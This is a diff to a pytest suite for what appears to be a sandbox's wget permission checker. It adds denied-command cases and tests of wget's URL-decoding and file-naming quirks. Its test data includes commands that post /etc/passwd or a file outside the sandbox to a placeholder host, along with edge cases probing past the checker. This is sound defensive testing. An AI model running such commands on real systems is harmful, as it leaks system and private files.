@@ -118,7 +118,8 @@ DENIED = [
     ("wget -x -nH --cut-dirs=1 http://h/a/.git/config", "protected"),
     ("wget --post-file=/etc/passwd http://x/", "outside"),
     ("wget --body-file ../outside/canary.txt http://x/", "outside"),
-    ("wget -i /etc/passwd -O out/x", "outside"),
+    ("wget -i /etc/passwd --no-glob -O out/x", "outside"),
+    ("wget -i list -O out/x", "--no-glob"),
     ("wget -i list http://x/", "in the file"),
     ("wget --config=x http://x/", "file the check cannot see"),
     ("wget -e output_document=dal.toml http://x/", "wgetrc command"),
@@ -235,6 +236,7 @@ def server(tmp_path: Path) -> Iterator[str]:
     (site / "d").mkdir(parents=True)
     (site / "dal.toml").write_text('[run]\nallow = ["sh"]\n')
     (site / "d" / "a.txt").write_text("served\n")
+    (site / "d" / "%61.txt").write_text("served\n")  # /d/%2561.txt, as the server decodes it
 
     def handler(*a: object, **kw: object) -> _Quiet:
         return _Quiet(*a, directory=str(site), **kw)  # type: ignore[arg-type]
@@ -333,12 +335,21 @@ WGET_REAL = [
     "wget -q -x -nH --cut-dirs=1 {URL}/d/a.txt",
     "wget -q -o log -O o {URL}/d/a.txt",
     "wget -q --save-cookies c {URL}/d/a.txt",
-    "wget -q -i list -O o2",
+    "wget -q --no-glob -i list -O o2",
     "wget -q {URL}/d/",
     "wget -q '{URL}/d/a.txt?x=1'",
     "wget -q --post-file=B -O o3 {URL}/d/a.txt",
     "wget -q --backups=2 -O a.txt {URL}/d/a.txt",
     "wget -q -a log2 -K -k {URL}/d/a.txt",
+    # wget's own URL parsing and file names (attack6 02, 03 and siblings)
+    "wget -q '{URL}/d/a.txt?'",  # an empty query stays in the name: a.txt?
+    "wget -q {URL}/d/%2561.txt",  # the file name is unescaped twice: a.txt
+    "wget -q -x http://LOCALHOST:{PORT}/d/a.txt",  # the host folder in lower case
+    "wget -q -x http://someone@127.0.0.1:{PORT}/d/a.txt",  # without the user
+    "wget -q -nd -x {URL}/d/a.txt",  # -x after -nd: the tree
+    "wget -q -x -nH --cut-dirs=1 {URL}//d/a.txt",  # --cut-dirs counts the empty folder
+    "wget -q --default-page=%61.txt {URL}/d/",  # the default page is unescaped: a.txt
+    "wget -q '{URL}/d/a.txt?" + "q" * 300 + "'",  # a name past NAME_MAX - 19 bytes is cut to 236
 ]
 
 
@@ -353,7 +364,8 @@ def test_wget_touches_only_what_its_model_says(tmp_path: Path, server: str, i: i
     (top / "list").write_text(f"{server}/d/a.txt\n")
     if i == 1:
         (top / "a.txt").write_text("old\n")
-    _touched_only_what_the_model_says(top, tuple(shlex.split(command.replace("{URL}", server))))
+    command = command.replace("{URL}", server).replace("{PORT}", server.rsplit(":", 1)[1])
+    _touched_only_what_the_model_says(top, tuple(shlex.split(command)))
 
 
 @pytest.mark.skipif(not (HAVE_CURL and HAVE_WGET), reason="curl and wget needed")
